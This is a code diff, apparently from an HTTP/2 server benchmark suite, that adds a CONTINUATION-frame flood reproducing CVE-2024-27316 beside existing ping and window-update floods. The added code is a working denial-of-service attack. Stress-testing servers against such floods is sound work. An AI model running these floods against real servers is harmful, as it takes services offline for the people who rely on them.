@@ -4,18 +4,32 @@ from __future__ import annotations
 
 import asyncio
 
-from hyperframe.frame import Frame, PingFrame, PriorityFrame, SettingsFrame, WindowUpdateFrame
+from hyperframe.frame import (
+    ContinuationFrame,
+    Frame,
+    HeadersFrame,
+    PingFrame,
+    PriorityFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
 
 from benchmarks.attacks.aim import Aim
 
 _BATCH = 1_000
+_HEADER_FIELD = b"\x00\x01x\x01a"
+"""``x: a`` as HPACK writes it without its tables."""
 
 
-async def _flood(aim: Aim, frame: Frame) -> None:
+async def _flood(aim: Aim, frame: Frame, *, first: bytes = b"") -> None:
+    """Sends ``first``, and then nothing but ``frame``."""
     data = frame.serialize() * _BATCH
 
     async def flood() -> None:
         async with aim.connection() as connection:
+            # the server's settings are acknowledged, so that no frame of ours comes in between
+            await connection.greeted.wait()
+            await connection.write(first)
             while True:
                 await connection.write(data)
                 aim.done["frames"] += _BATCH
@@ -42,3 +56,9 @@ async def window_updates(aim: Aim) -> None:
 async def pings(aim: Aim) -> None:
     """Pings, each of which the server has to answer."""
     await _flood(aim, PingFrame(opaque_data=b"are you?"))
+
+
+async def continuations(aim: Aim) -> None:
+    """The headers of one call, which never end (CVE-2024-27316)."""
+    begin = HeadersFrame(1, _HEADER_FIELD).serialize()
+    await _flood(aim, ContinuationFrame(1, _HEADER_FIELD), first=begin)
